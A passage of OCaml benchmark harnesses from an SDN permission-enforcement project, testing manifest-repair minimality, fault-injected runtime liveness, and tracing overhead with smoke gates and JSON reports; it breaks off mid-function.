let smoke () =
  Bench_util.hr "shield-verify: smoke";
  arm_watchdog 120.;
  report_outcome ~gate:"verify-smoke"
    (run_checks ~gate:"verify-smoke" ~hostile_seeds:2)
