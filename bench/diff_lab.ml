(* Symbolic-difference lab: prove the Diff engine's contract and the
   minimality certification built on it (docs/VERIFY.md "Minimality").

   Invariants checked against the examples/verify corpus:

   - the clean corpus reconciles without repairs and certifies
     Minimal (vacuously), and the honestly-reconciled dirty corpus —
     a real Truncated_to_boundary repair — also certifies Minimal:
     MEET(original, boundary) loses nothing against reconcile's
     actual output;
   - an over-truncated repair (examples/verify/overtruncated.manifest
     standing in for a buggy MEET) yields Slack, and every Slack
     witness is semantically sound: the call is admitted by the least
     repair and denied by the published manifest under [Filter_eval]
     itself, and the certificate's checker cross-check agrees;
   - an exhausted budget degrades minimality to Unknown_minimality —
     never to a false Minimal, and never to an exception;
   - [Diff.diff] itself is fail-closed: past budget exhaustion it
     answers Unknown, never a false Empty, and witness lists stay
     bounded by [Diff.dedup]'s cap under hostile manifests.

   `diff-lab` adds hostile-generator sweeps; `diff-smoke` is the fast
   tier-1 gate wired into `dune runtest`.  Both persist
   BENCH_DIFF.json. *)

open Sdnshield
module Hostile = Shield_workload.Hostile_gen
module J = Bench_util.Json

let failures = ref []
let fail fmt = Printf.ksprintf (fun s -> failures := s :: !failures) fmt

(* The runtest rule runs from _build/default/bench; `dune exec
   bench/main.exe` usually runs from the repo root.  Try both. *)
let read_example name =
  let candidates =
    [ Filename.concat "examples/verify" name;
      Filename.concat "../examples/verify" name ]
  in
  match List.find_opt Sys.file_exists candidates with
  | None ->
    fail "corpus file %s not found (tried: %s)" name
      (String.concat ", " candidates);
    ""
  | Some path ->
    let ic = open_in_bin path in
    Fun.protect
      ~finally:(fun () -> close_in_noerr ic)
      (fun () -> really_input_string ic (in_channel_length ic))

let manifest_of ~what src =
  match Perm_parser.manifest_of_string src with
  | Ok m -> m
  | Error e ->
    fail "%s: manifest does not parse: %s" what e;
    []

let policy_of ~what src =
  match Policy_parser.of_string src with
  | Ok p -> p
  | Error e ->
    fail "%s: policy does not parse: %s" what e;
    []

let pure = Filter_eval.pure_env

(** A Slack witness, re-confirmed from scratch: admitted by the least
    repair ([admitted_by]), denied by the published repaired manifest
    ([escapes]) — under [Filter_eval] itself. *)
let confirm_slack ~what (w : Verify.witness) =
  let attrs = Attrs.of_call w.Verify.call in
  let fl = Perm.filter_of w.Verify.admitted_by w.Verify.token in
  if not (Filter_eval.eval pure fl attrs) then
    fail "%s: slack witness is NOT admitted by the least repair" what;
  match w.Verify.escapes with
  | None -> fail "%s: slack witness carries no repaired-manifest side" what
  | Some after ->
    if Filter_eval.eval pure (Perm.filter_of after w.Verify.token) attrs then
      fail "%s: slack witness is NOT denied by the repaired manifest" what

let minimality_name = function
  | Verify.Minimal -> "minimal"
  | Verify.Slack _ -> "slack"
  | Verify.Unknown_minimality _ -> "unknown"

(* Clean corpora: Minimal, vacuously and after a real repair --------------- *)

let check_minimal_corpora () =
  let clean_m =
    manifest_of ~what:"clean.manifest" (read_example "clean.manifest")
  in
  let clean_p = policy_of ~what:"clean.policy" (read_example "clean.policy") in
  let report = Reconcile.run ~apps:[ ("app", clean_m) ] clean_p in
  let cert, clean_dt =
    Bench_util.timed (fun () -> Verify.verify_report clean_p report)
  in
  Fmt.pr "clean corpus:              %s / minimality %s (%s)@."
    (Verify.verdict_label cert)
    (Verify.minimality_label cert)
    (Bench_util.fmt_us clean_dt);
  if cert.Verify.minimality <> Verify.Minimal then
    fail "clean: expected Minimal (no repairs), got %s"
      (minimality_name cert.Verify.minimality);
  (* The honest repair: reconcile truncates dirty.manifest by MEET
     with the boundary, and the minimality pass must prove that this
     truncation took nothing the boundary would have kept. *)
  let dirty_m =
    manifest_of ~what:"dirty.manifest" (read_example "dirty.manifest")
  in
  let dirty_p = policy_of ~what:"dirty.policy" (read_example "dirty.policy") in
  let report = Reconcile.run ~apps:[ ("app", dirty_m) ] dirty_p in
  if
    not
      (List.exists
         (fun (v : Reconcile.violation) ->
           v.Reconcile.action = Reconcile.Truncated_to_boundary)
         report.Reconcile.violations)
  then fail "dirty: reconcile performed no boundary truncation to audit";
  let cert, repaired_dt =
    Bench_util.timed (fun () -> Verify.verify_report dirty_p report)
  in
  Fmt.pr "honestly repaired dirty:   %s / minimality %s (%s)@."
    (Verify.verdict_label cert)
    (Verify.minimality_label cert)
    (Bench_util.fmt_us repaired_dt);
  if cert.Verify.minimality <> Verify.Minimal then
    fail "dirty repaired: expected Minimal for reconcile's own repair, got %s"
      (minimality_name cert.Verify.minimality);
  (clean_dt, repaired_dt)

(* Over-truncated repair: Slack with confirmed witnesses ------------------- *)

(* A report as a buggy reconciliation would have produced it: the
   recorded repair [before -> after] over-truncates (overtruncated
   .manifest drops read_statistics, narrows 10/8 to 10.0/16 and caps
   priority at 10000 where the boundary allows 32000). *)
let overtruncated_report () =
  let before =
    manifest_of ~what:"dirty.manifest" (read_example "dirty.manifest")
  in
  let after =
    manifest_of ~what:"overtruncated.manifest"
      (read_example "overtruncated.manifest")
  in
  let p = policy_of ~what:"dirty.policy" (read_example "dirty.policy") in
  let stmt =
    match
      List.find_opt (function Policy.Assert _ -> true | _ -> false) p
    with
    | Some s -> s
    | None ->
      fail "dirty.policy has no ASSERT statement";
      Policy.Assert
        (Policy.A_cmp (Policy.P_block [], Policy.C_le, Policy.P_block []))
  in
  ( p,
    { Reconcile.manifests = [ ("app", after) ];
      violations =
        [ { Reconcile.stmt;
            app = Some "app";
            message = "simulated buggy boundary truncation";
            action = Reconcile.Truncated_to_boundary;
            before;
            after } ];
      unresolved_macros = [] } )

let check_overtruncated () =
  let p, report = overtruncated_report () in
  let cert, dt = Bench_util.timed (fun () -> Verify.verify_report p report) in
  Fmt.pr "over-truncated repair:     %s / minimality %s (%s)@."
    (Verify.verdict_label cert)
    (Verify.minimality_label cert)
    (Bench_util.fmt_us dt);
  (match cert.Verify.minimality with
  | Verify.Slack ws ->
    if ws = [] then fail "overtruncated: Slack with an empty witness list";
    if List.length ws > 8 then
      fail "overtruncated: %d slack witnesses exceed the dedup cap"
        (List.length ws);
    List.iter (confirm_slack ~what:"overtruncated") ws;
    if cert.Verify.crosscheck.Verify.replayed = 0 then
      fail "overtruncated: no slack witness was replayed through the checkers";
    if not cert.Verify.crosscheck.Verify.checkers_agree then
      fail
        "overtruncated: Engine/Compiled/Automaton disagreed with Filter_eval: \
         %s"
        (String.concat "; " cert.Verify.crosscheck.Verify.crosscheck_notes)
  | m ->
    fail "overtruncated: expected Slack with confirmed witnesses, got %s"
      (minimality_name m));
  (cert, dt)

(* Budget exhaustion: Unknown_minimality, never a false Minimal ------------ *)

let check_budget_degradation () =
  let p, report = overtruncated_report () in
  let limits = { Budget.default_limits with Budget.max_steps = 2 } in
  match Verify.verify_report ~limits p report with
  | cert ->
    Fmt.pr "exhausted budget:          minimality %s@."
      (Verify.minimality_label cert);
    (match cert.Verify.minimality with
    | Verify.Unknown_minimality _ -> ()
    | Verify.Minimal ->
      fail "budget: an exhausted budget certified an over-truncation Minimal"
    | Verify.Slack _ ->
      (* Witnesses under a 2-step budget would mean the search ran
         un-metered. *)
      fail "budget: an exhausted budget still synthesized slack witnesses")
  | exception exn ->
    fail "budget: verify_report raised under an exhausted budget: %s"
      (Printexc.to_string exn)

(* Diff fail-closed direction + witness bounds ----------------------------- *)

let check_diff_direction () =
  let wide = [ { Perm.token = Token.Insert_flow; filter = Filter.True } ] in
  let narrow =
    manifest_of ~what:"clean.manifest" (read_example "clean.manifest")
  in
  (* Past exhaustion, [diff] must answer Unknown: a false Empty here
     would let a buggy repair certify Minimal.  (Direction table in
     docs/VETTING.md; unit-pinned by test/test_diff.ml.) *)
  let b = Budget.create ~limits:{ Budget.default_limits with max_steps = 1 } () in
  (* Drain the scope first so every tick inside [diff] raises. *)
  (try
     Budget.with_scope b (fun () ->
         Budget.step ();
         Budget.step ())
   with Budget.Exhausted _ -> ());
  (match Budget.with_scope b (fun () -> Diff.diff wide narrow) with
  | Diff.Unknown _ -> ()
  | Diff.Empty -> fail "direction: exhausted diff answered a false Empty"
  | Diff.Nonempty _ ->
    fail "direction: exhausted diff still synthesized witnesses"
  | exception exn ->
    fail "direction: diff raised instead of absorbing exhaustion: %s"
      (Printexc.to_string exn));
  (* Under an ample budget the same pair has confirmed witnesses. *)
  match Diff.diff wide narrow with
  | Diff.Nonempty (_ :: _) -> ()
  | v ->
    fail "direction: expected witnesses for True \\ clean, got %s"
      (match v with
      | Diff.Empty -> "Empty"
      | Diff.Unknown r -> "Unknown (" ^ r ^ ")"
      | Diff.Nonempty _ -> "Nonempty []")

let check_hostile ~seeds =
  for seed = 1 to seeds do
    let what = Printf.sprintf "hostile (seed %d)" seed in
    let manifest_src, _ = Hostile.assertion_heavy ~seed in
    let m = manifest_of ~what manifest_src in
    match Diff.diff ~max_witnesses:64 m [] with
    | Diff.Nonempty ws ->
      if List.length (Diff.dedup ws) > 8 then
        fail "%s: dedup left %d witnesses (cap is 8)" what
          (List.length (Diff.dedup ws))
    | Diff.Empty | Diff.Unknown _ -> ()
    | exception exn -> fail "%s: diff raised: %s" what (Printexc.to_string exn)
  done

(* Harness ----------------------------------------------------------------- *)

let arm_watchdog seconds =
  ignore
    (Thread.create
       (fun () ->
         Thread.delay seconds;
         Fmt.epr
           "diff-lab WATCHDOG: still running after %.0fs — the difference \
            analysis hung on the corpus@."
           seconds;
         exit 3)
       ())

let emit_json ~gate ~slack_cert ~clean_dt ~repaired_dt ~slack_dt =
  let s = Verify.stats () in
  let slack_witnesses =
    match slack_cert.Verify.minimality with
    | Verify.Slack ws -> List.length ws
    | _ -> 0
  in
  Bench_util.write_json "BENCH_DIFF.json"
    (J.Obj
       [ ("bench", J.Str gate);
         ("corpus", J.Str "examples/verify clean/dirty/overtruncated");
         ( "minimality",
           J.Obj
             [ ("minimal", J.Int s.Verify.minimal_n);
               ("slack", J.Int s.Verify.slack_n);
               ("unknown", J.Int s.Verify.unknown_minimality_n) ] );
         ("slack_witnesses", J.Int slack_witnesses);
         ( "slack_witness_replays",
           J.Int slack_cert.Verify.crosscheck.Verify.replayed );
         ( "checkers_agree",
           J.Bool slack_cert.Verify.crosscheck.Verify.checkers_agree );
         ( "timings_us",
           J.Obj
             [ ("clean", J.Float (clean_dt *. 1e6));
               ("dirty_repaired", J.Float (repaired_dt *. 1e6));
               ("overtruncated", J.Float (slack_dt *. 1e6)) ] ) ])

let report_outcome ~gate failures =
  match failures with
  | [] ->
    Fmt.pr
      "%s ok: honest repairs certify Minimal, over-truncation yields \
       confirmed Slack, exhaustion degrades to Unknown without a false \
       Empty@."
      gate
  | fs ->
    List.iter (fun f -> Fmt.epr "%s FAILURE: %s@." gate f) fs;
    exit 1

let run_checks ~gate ~hostile_seeds =
  failures := [];
  Verify.reset_stats ();
  let clean_dt, repaired_dt = check_minimal_corpora () in
  let slack_cert, slack_dt = check_overtruncated () in
  check_budget_degradation ();
  check_diff_direction ();
  if hostile_seeds > 0 then check_hostile ~seeds:hostile_seeds;
  emit_json ~gate ~slack_cert ~clean_dt ~repaired_dt ~slack_dt;
  !failures

let run () =
  Bench_util.hr "symbolic diff: minimality certification on the corpus";
  arm_watchdog 300.;
  report_outcome ~gate:"diff-lab" (run_checks ~gate:"diff-lab" ~hostile_seeds:12)

(** Tier-1 gate: same invariants, smaller hostile sweep. *)
let smoke () =
  Bench_util.hr "symbolic diff: smoke";
  arm_watchdog 120.;
  report_outcome ~gate:"diff-smoke"
    (run_checks ~gate:"diff-smoke" ~hostile_seeds:2)
