(* Fault-injection lab: prove the isolated runtime degrades gracefully
   instead of deadlocking.

   With deputy-kill, checker-raise and kernel-raise faults armed
   (Shield_controller.Faults), drive 10k+ API calls through both the
   threaded and the domain-parallel KSD pool and check the liveness
   invariants of docs/RUNTIME.md:

   - every handled event's API call receives a reply
     (Done / Denied / Failed — including "deadline"), i.e. no app
     thread ever hangs on a dead deputy;
   - [drain] and [shutdown] terminate;
   - the supervisor kept the deputy pool alive (restarts happened and
     the run still completed).

   `faults` prints the full report; `faults-smoke` is the fast tier-1
   gate (no timing assertions, exits nonzero on any violated
   invariant, and a watchdog turns a hang into a failure instead of a
   stuck CI job). *)

open Shield_openflow
open Shield_net
open Shield_controller

let mode_name = function
  | Runtime.Monolithic -> "monolithic"
  | Runtime.Isolated { ksd_threads } ->
    Printf.sprintf "isolated (%d KSD threads)" ksd_threads
  | Runtime.Isolated_domains { ksd_domains } ->
    Printf.sprintf "isolated-domains (%d KSD domains)" ksd_domains

type tally = {
  handled : int Atomic.t;  (** Handler invocations started. *)
  done_ : int Atomic.t;
  denied : int Atomic.t;
  failed : int Atomic.t;
}

let tally_total y =
  Atomic.get y.done_ + Atomic.get y.denied + Atomic.get y.failed

(* One app: on every packet-in, install a small rotating set of flows
   so the call stream exercises the checker, the kernel and the reply
   path.  The reply is tallied the moment [ctx.call] returns — which
   the failure model guarantees it always does. *)
let make_app y i =
  App.make
    ~subscriptions:[ Api.E_packet_in ]
    ~handle:(fun ctx ev ->
      match ev with
      | Events.Packet_in pi ->
        Atomic.incr y.handled;
        let fm =
          Flow_mod.add
            ~match_:
              (Match_fields.make
                 ~tp_dst:(1024 + ((Atomic.get y.handled + i) mod 64))
                 ())
            ~actions:[ Action.Output 1 ] ()
        in
        (match ctx.App.call (Api.Install_flow (pi.Message.dpid, fm)) with
        | Api.Denied _ -> Atomic.incr y.denied
        | Api.Failed _ -> Atomic.incr y.failed
        | _ -> Atomic.incr y.done_)
      | _ -> ())
    (Printf.sprintf "faulty-%d" i)

let pkt_in dpid =
  Events.Packet_in
    { Message.dpid; in_port = 1; packet = Packet.arp ~src:0xA ~dst:0xB ();
      reason = Message.No_match; buffer_id = None }

(** Drive [events] packet-ins through [apps] apps under [mode] with all
    three fault sites armed.  Returns the list of violated invariants
    (empty = pass) and the mode's measurements for BENCH_FAULTS.json. *)
let run_mode ~mode ~apps ~events : string list * Bench_util.Json.t =
  let topo = Topology.linear 4 in
  let kernel = Kernel.create (Dataplane.create topo) in
  let y =
    { handled = Atomic.make 0; done_ = Atomic.make 0; denied = Atomic.make 0;
      failed = Atomic.make 0 }
  in
  let config =
    { Runtime.default_config with
      Runtime.call_deadline = Some 0.1;
      restart_budget = 1_000;
      ev_capacity = Some 256;
      ev_policy = Channel.Block;
      req_capacity = Some 1_024 }
  in
  (* Checker faults also fire on the implicit Receive_event check, so a
     slice of events is suppressed fail-closed; the accounting below is
     per *handled* event, which stays exact. *)
  let pairs =
    List.init apps (fun i -> (make_app y i, Faults.wrap_checker Api.allow_all))
  in
  Faults.reset_counts ();
  Faults.configure ~seed:7 ~checker:0.02 ~kernel:0.02 ~deputy:0.002 ();
  let rt =
    Fun.protect ~finally:Faults.disarm (fun () ->
        let rt = Runtime.create ~config ~mode kernel pairs in
        for i = 1 to events do
          Runtime.feed rt (pkt_in (1 + (i mod 4)))
        done;
        Runtime.drain rt;
        rt)
  in
  (* Faults disarmed: queue gauges and reports reflect the run. *)
  let gauges = Shield_controller.Metrics.gauge_report () in
  let fr = Runtime.fault_report rt in
  Runtime.shutdown rt;
  let calls, denials, delivered, suppressed = Runtime.stats rt in
  Bench_util.subhr (mode_name mode);
  Fmt.pr "events fed: %d x %d apps; delivered=%d suppressed=%d@." events apps
    delivered suppressed;
  Fmt.pr "handled=%d replies: done=%d denied=%d failed=%d (runtime: calls=%d \
          denials=%d)@."
    (Atomic.get y.handled) (Atomic.get y.done_) (Atomic.get y.denied)
    (Atomic.get y.failed) calls denials;
  Runtime.pp_fault_report Fmt.stdout fr;
  Faults.pp_report Fmt.stdout ();
  List.iter
    (fun (name, g) ->
      Fmt.pr "%-24s depth=%d high-water=%d@." name g.Metrics.depth
        g.Metrics.hwm)
    gauges;
  let failures = ref [] in
  let fail fmt = Printf.ksprintf (fun s -> failures := s :: !failures) fmt in
  if Atomic.get y.handled <> tally_total y then
    fail "%s: %d handled events but %d replies — a call hung or was lost"
      (mode_name mode) (Atomic.get y.handled) (tally_total y);
  if Atomic.get y.handled + suppressed < events * apps then
    fail "%s: handled(%d) + suppressed(%d) < dispatched(%d)" (mode_name mode)
      (Atomic.get y.handled) suppressed (events * apps);
  if Faults.injected Faults.Deputy > 0 && fr.Runtime.restarts = 0 then
    fail "%s: deputies were killed but never restarted" (mode_name mode);
  let module J = Bench_util.Json in
  ( !failures,
    J.Obj
      [ ("mode", J.Str (mode_name mode));
        ("events", J.Int (events * apps));
        ("handled", J.Int (Atomic.get y.handled));
        ("done", J.Int (Atomic.get y.done_));
        ("denied", J.Int (Atomic.get y.denied));
        ("failed", J.Int (Atomic.get y.failed));
        ("delivered", J.Int delivered);
        ("suppressed", J.Int suppressed);
        ("restarts", J.Int fr.Runtime.restarts);
        ("deputy_faults", J.Int (Faults.injected Faults.Deputy)) ] )

let modes = [ Runtime.Isolated { ksd_threads = 4 };
              Runtime.Isolated_domains { ksd_domains = 2 } ]

(** Watchdog: a hang is the very bug this harness exists to catch, so
    turn it into a loud exit instead of a stuck run.  The thread dies
    with the process on success. *)
let arm_watchdog seconds =
  ignore
    (Thread.create
       (fun () ->
         Thread.delay seconds;
         Fmt.epr "fault-lab WATCHDOG: still running after %.0fs — runtime \
                  hung under injected faults@."
           seconds;
         exit 3)
       ())

let emit_json ~gate per_mode =
  let module J = Bench_util.Json in
  Bench_util.write_json "BENCH_FAULTS.json"
    (J.Obj [ ("bench", J.Str gate); ("modes", J.Arr per_mode) ])

let run () =
  Bench_util.hr
    "Fault injection: supervised KSD pool under checker/kernel/deputy faults";
  arm_watchdog 300.;
  let results = List.map (fun mode -> run_mode ~mode ~apps:4 ~events:2500) modes in
  let failures = List.concat_map fst results in
  emit_json ~gate:"fault-lab" (List.map snd results);
  (match failures with
  | [] -> Fmt.pr "@.fault-lab: all liveness invariants held (10k calls/mode)@."
  | fs -> List.iter (fun f -> Fmt.epr "fault-lab FAILURE: %s@." f) fs);
  if failures <> [] then exit 1

(** Tier-1 gate: same invariants, smaller volume. *)
let smoke () =
  Bench_util.hr "Fault injection: smoke";
  arm_watchdog 120.;
  let results = List.map (fun mode -> run_mode ~mode ~apps:4 ~events:600) modes in
  let failures = List.concat_map fst results in
  emit_json ~gate:"faults-smoke" (List.map snd results);
  match failures with
  | [] -> Fmt.pr "@.faults-smoke ok@."
  | fs ->
    List.iter (fun f -> Fmt.epr "faults-smoke FAILURE: %s@." f) fs;
    exit 1
