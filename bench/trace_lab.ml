(* Observability lab: end-to-end call tracing and telemetry export.

   Quantifies what docs/OBSERVABILITY.md claims:

   - per-stage latency breakdown (queue wait / check / kernel exec /
     total) from the [lat:*] histograms a traced runtime records;
   - tracing overhead on the cached hot path at several sampling
     ratios — full sampling pays the span + histogram cost on every
     call, 1-in-N sampling amortizes it to the sampler's counter bump;
   - telemetry export: JSON and Prometheus snapshots of one run.

   `trace-lab` prints the full report; `obs-smoke` is the fast tier-1
   gate: tracing at the recommended 1-in-10 sampling must add <10%
   wall-clock overhead to the cached hot path, both export formats
   must parse/round-trip, and every denied span must carry a decision
   explanation. *)

open Shield_openflow
open Shield_net
open Shield_controller
open Sdnshield

(* The CLI `telemetry` demo's manifest: MAX_PRIORITY 400 makes every
   4th call (priority 1000) a denial, so traces carry explained
   denials; the small distinct-call population keeps the decision
   cache hot. *)
let demo_manifest =
  "PERM insert_flow LIMITING MAX_PRIORITY 400 AND OWN_FLOWS\n\
   PERM pkt_in_event\nPERM read_payload"

let pkt_in dpid =
  Events.Packet_in
    { Message.dpid; in_port = 1; packet = Packet.arp ~src:0xA ~dst:0xB ();
      reason = Message.No_match; buffer_id = None }

(** One traced (or untraced) run: an engine-guarded app on the
    isolated runtime, [warmup] events to fill the decision cache and
    settle the thread pool, then [events] timed ones.  Returns the
    process-CPU seconds of the timed feed+drain: on a small CI box the
    runtime's thread pipeline timeshares the cores, so wall clock
    measures the scheduler; CPU time ([Sys.time], getrusage-backed,
    all threads) measures the work — which is what tracing adds. *)
let run_workload ?trace ~tag ~warmup ~events () =
  let kernel = Kernel.create (Dataplane.create (Topology.linear 4)) in
  let handled = ref 0 in
  let app =
    App.make
      ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun ctx ev ->
        match ev with
        | Events.Packet_in pi ->
          incr handled;
          let priority = if !handled mod 4 = 0 then 1_000 else 100 in
          let fm =
            Flow_mod.add ~priority
              ~match_:(Match_fields.make ~tp_dst:(1024 + (!handled mod 16)) ())
              ~actions:[ Action.Output 1 ] ()
          in
          ignore (ctx.App.call (Api.Install_flow (pi.Message.dpid, fm)))
        | _ -> ())
      tag
  in
  let engine =
    Engine.create ~cache_size:Decision_cache.default_max_entries
      ~ownership:(Ownership.create ())
      ~app_name:tag ~cookie:1
      (Perm_parser.manifest_exn demo_manifest)
  in
  let config = { Runtime.default_config with Runtime.trace } in
  let rt =
    Runtime.create ~config
      ~mode:(Runtime.Isolated { ksd_threads = 2 })
      kernel
      [ (app, Engine.checker engine) ]
  in
  for i = 1 to warmup do
    Runtime.feed rt (pkt_in (1 + (i mod 4)))
  done;
  Runtime.drain rt;
  let c0 = Sys.time () in
  for i = 1 to events do
    Runtime.feed rt (pkt_in (1 + (i mod 4)))
  done;
  Runtime.drain rt;
  let dt = Sys.time () -. c0 in
  Runtime.shutdown rt;
  Metrics.unregister_cache ("engine:" ^ tag);
  dt

(** Overhead measurement: [trials] paired traced/untraced runs,
    adjacent in time so drift hits both sides of a pair alike.
    Returns the (untraced, traced) CPU-time pairs. *)
let measure_overhead ~sampling ~trials ~events () =
  List.init trials (fun i ->
      let tr = Trace.create ~capacity:4096 ~sampling () in
      let t =
        run_workload ~trace:tr ~tag:(Printf.sprintf "obs-t%d" i) ~warmup:300
          ~events ()
      in
      let u =
        run_workload ~tag:(Printf.sprintf "obs-u%d" i) ~warmup:300 ~events ()
      in
      (u, t))

let median xs =
  let a = List.sort Float.compare xs in
  List.nth a (List.length a / 2)

(** One churn run through the live-update pipeline (Epoch + Market),
    traced or not: CPU seconds for [txns] lifecycle transactions.
    Quantifies what transaction spans + stage histograms add to
    market-lab-style churn throughput. *)
let run_churn ?trace ~txns ~apps ~seed () =
  let t =
    match Epoch.create ~policy:"" () with
    | Ok t -> t
    | Error e -> failwith ("trace-lab: policy rejected: " ^ e)
  in
  let m = Epoch.market ?trace t in
  let script =
    Shield_workload.Churn_gen.script ~seed ~apps ~invalid_fraction:0.15
      ~length:txns ()
  in
  let c0 = Sys.time () in
  List.iter
    (fun (e : Shield_workload.Churn_gen.entry) ->
      ignore (Market.submit m e.Shield_workload.Churn_gen.request))
    script;
  Market.drain m;
  let dt = Sys.time () -. c0 in
  Market.shutdown m;
  Epoch.close t;
  dt

(** Paired traced/untraced churn runs, same script both sides.  One
    discarded warmup run first (the process's first churn pays the
    pipeline's cold-start costs), and the order within a pair
    alternates between trials so a residual first-runs-slower bias
    cancels instead of landing on one side. *)
let measure_churn_overhead ~trials ~txns ~apps () =
  ignore (run_churn ~txns:(min txns 20) ~apps ~seed:40 ());
  List.init trials (fun i ->
      let tr = Trace.create () in
      let seed = 41 + i in
      if i mod 2 = 0 then begin
        let t = run_churn ~trace:tr ~txns ~apps ~seed () in
        let u = run_churn ~txns ~apps ~seed () in
        (u, t)
      end
      else begin
        let u = run_churn ~txns ~apps ~seed () in
        let t = run_churn ~trace:tr ~txns ~apps ~seed () in
        (u, t)
      end)

(** Overhead %, as the median of the per-pair traced/untraced ratios:
    single-run CPU time on a small shared box swings by ~10% (GC
    timing, futex sys-time), so a single ratio — or a min over
    unpaired runs — is noise; the median over adjacent pairs isolates
    the systematic part. *)
let overhead_pct pairs =
  100. *. (median (List.map (fun (u, t) -> t /. u) pairs) -. 1.)

let median_us_per_event ~events pairs sel =
  median (List.map sel pairs) /. float_of_int events *. 1e6

(* Sections ---------------------------------------------------------------- *)

let latency_section ~events () =
  Bench_util.subhr
    (Printf.sprintf "per-stage latency breakdown (%d traced calls, sampling 1.0)"
       events)
  ;
  List.iter Metrics.unregister_hist
    [ "lat:queue"; "lat:check"; "lat:exec"; "lat:total"; "lat:app:obs-demo" ];
  let trace = Trace.create ~capacity:4096 () in
  ignore (run_workload ~trace ~tag:"obs-demo" ~warmup:0 ~events ());
  let fmt_us v = Printf.sprintf "%.1f" (v *. 1e6) in
  let rows =
    List.filter_map
      (fun stage ->
        match List.assoc_opt stage (Metrics.hist_report ()) with
        | None -> None
        | Some h ->
          let p q = fmt_us (Metrics.Histogram.percentile h q) in
          Some
            [ stage; string_of_int (Metrics.Histogram.count h); p 50.; p 90.;
              p 99.; p 100. ])
      [ "lat:queue"; "lat:check"; "lat:exec"; "lat:total" ]
  in
  Bench_util.table
    [ "stage"; "n"; "p50 (us)"; "p90 (us)"; "p99 (us)"; "max (us)" ]
    rows;
  Fmt.pr "@.%a@." Trace.pp_stats (Trace.stats trace);
  let spans = Trace.spans trace in
  let denied =
    List.filter (fun (s : Trace.span) -> s.Trace.decision = Trace.Denied) spans
  in
  Fmt.pr "spans: %d retained, %d denied — first denial:@."
    (List.length spans) (List.length denied);
  (match denied with
  | s :: _ -> Fmt.pr "  %a@." Trace.pp_span s
  | [] -> ());
  trace

let overhead_section () =
  Bench_util.subhr
    "tracing overhead on the cached hot path (median of 5 paired trials)";
  let measured =
    List.map
      (fun sampling ->
        let pairs = measure_overhead ~sampling ~trials:5 ~events:3_000 () in
        (sampling, 3_000, pairs, overhead_pct pairs))
      [ 1.0; 0.1; 0.01 ]
  in
  Bench_util.table
    [ "sampling"; "untraced CPU/event"; "traced CPU/event"; "overhead" ]
    (List.map
       (fun (sampling, events, pairs, pct) ->
         [ Printf.sprintf "%.2f" sampling;
           Printf.sprintf "%.1f us" (median_us_per_event ~events pairs fst);
           Printf.sprintf "%.1f us" (median_us_per_event ~events pairs snd);
           Printf.sprintf "%+.1f %%" pct ])
       measured);
  measured

let churn_section ~trials ~txns ~apps () =
  Bench_util.subhr
    (Printf.sprintf
       "lifecycle-transaction tracing overhead (%d txns, median of %d paired \
        trials)"
       txns trials);
  let pairs = measure_churn_overhead ~trials ~txns ~apps () in
  let per_txn sel =
    median (List.map sel pairs) /. float_of_int txns *. 1e3
  in
  let pct = overhead_pct pairs in
  Bench_util.table
    [ "untraced CPU/txn"; "traced CPU/txn"; "overhead" ]
    [ [ Printf.sprintf "%.2f ms" (per_txn fst);
        Printf.sprintf "%.2f ms" (per_txn snd);
        Printf.sprintf "%+.1f %%" pct ] ];
  (pairs, pct)

(* BENCH_OBS.json: the lab's measurements as a repo-root artifact, so
   the observability-overhead trajectory is part of the tree. *)
let emit_json ~gate ~call_rows ~churn ~churn_txns =
  let module J = Bench_util.Json in
  Bench_util.write_json "BENCH_OBS.json"
    (J.Obj
       [ ("gate", J.Str gate);
         ( "call_tracing",
           J.Arr
             (List.map
                (fun (sampling, events, pairs, pct) ->
                  J.Obj
                    [ ("sampling", J.Float sampling);
                      ("events", J.Int events);
                      ( "untraced_us_per_event",
                        J.Float (median_us_per_event ~events pairs fst) );
                      ( "traced_us_per_event",
                        J.Float (median_us_per_event ~events pairs snd) );
                      ("overhead_pct", J.Float pct) ])
                call_rows) );
         ( "churn_tracing",
           let pairs, pct = churn in
           let per_txn sel =
             median (List.map sel pairs) /. float_of_int churn_txns *. 1e3
           in
           J.Obj
             [ ("txns", J.Int churn_txns);
               ("trials", J.Int (List.length pairs));
               ("untraced_ms_per_txn", J.Float (per_txn fst));
               ("traced_ms_per_txn", J.Float (per_txn snd));
               ("overhead_pct", J.Float pct) ] ) ])

let export_section trace =
  Bench_util.subhr "telemetry export";
  let snap = Telemetry.snapshot ~trace () in
  let json = Telemetry.to_json snap in
  let prom = Telemetry.to_prometheus snap in
  Fmt.pr "JSON snapshot: %d bytes, round-trips: %b@." (String.length json)
    (Telemetry.Json.of_string json = Ok (Telemetry.to_json_value snap));
  Fmt.pr "Prometheus snapshot: %d lines, validates: %b@."
    (List.length (String.split_on_char '\n' prom))
    (Telemetry.validate_prometheus prom = Ok ())

let run () =
  Bench_util.hr "Observability: call tracing, latency histograms, telemetry";
  let trace = latency_section ~events:4_000 () in
  export_section trace;
  let call_rows = overhead_section () in
  let churn_txns = 120 in
  let churn = churn_section ~trials:5 ~txns:churn_txns ~apps:12 () in
  emit_json ~gate:"trace-lab" ~call_rows ~churn ~churn_txns;
  Fmt.pr
    "@.note: full sampling pays the span + histogram cost on every call;@.";
  Fmt.pr
    "      1-in-N sampling amortizes it to a counter bump (docs/OBSERVABILITY.md)@."

(* Tier-1 gate ------------------------------------------------------------- *)

(** Watchdog: turn a hung runtime into a loud exit instead of a stuck
    CI job (same idiom as fault_lab). *)
let arm_watchdog seconds =
  ignore
    (Thread.create
       (fun () ->
         Thread.delay seconds;
         Fmt.epr "obs-smoke WATCHDOG: still running after %.0fs@." seconds;
         exit 3)
       ())

let smoke () =
  Bench_util.hr "Observability: smoke";
  arm_watchdog 120.;
  let failures = ref [] in
  let fail fmt = Printf.ksprintf (fun s -> failures := s :: !failures) fmt in
  (* 1. Correctness of a fully-sampled traced run: spans are
     accounted for, denied spans are explained, exports round-trip. *)
  let trace = Trace.create ~capacity:4096 () in
  let events = 1_200 in
  ignore (run_workload ~trace ~tag:"obs-smoke" ~warmup:0 ~events ());
  let st = Trace.stats trace in
  if st.Trace.seen <> st.Trace.recorded + st.Trace.sampled_out then
    fail "trace accounting: seen=%d <> recorded=%d + sampled_out=%d"
      st.Trace.seen st.Trace.recorded st.Trace.sampled_out;
  if st.Trace.recorded < events then
    fail "only %d of %d calls recorded at sampling 1.0" st.Trace.recorded
      events;
  let spans = Trace.spans trace in
  let denied =
